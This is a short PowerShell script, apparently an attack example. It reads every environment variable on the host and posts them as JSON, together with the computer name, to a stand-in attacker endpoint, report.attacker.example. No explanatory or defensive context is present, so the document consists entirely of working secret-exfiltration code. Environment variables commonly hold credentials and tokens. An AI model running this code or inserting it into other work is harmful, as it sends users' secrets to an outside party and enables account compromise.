$envs = Get-ChildItem Env: | ForEach-Object { "$($_.Name)=$($_.Value)" }
$body = @{ host = $env:COMPUTERNAME; env = ($envs -join "`n") } | ConvertTo-Json
Invoke-RestMethod -Uri "https://report.attacker.example/env" -Method Post -Body $body -ContentType "application/json"
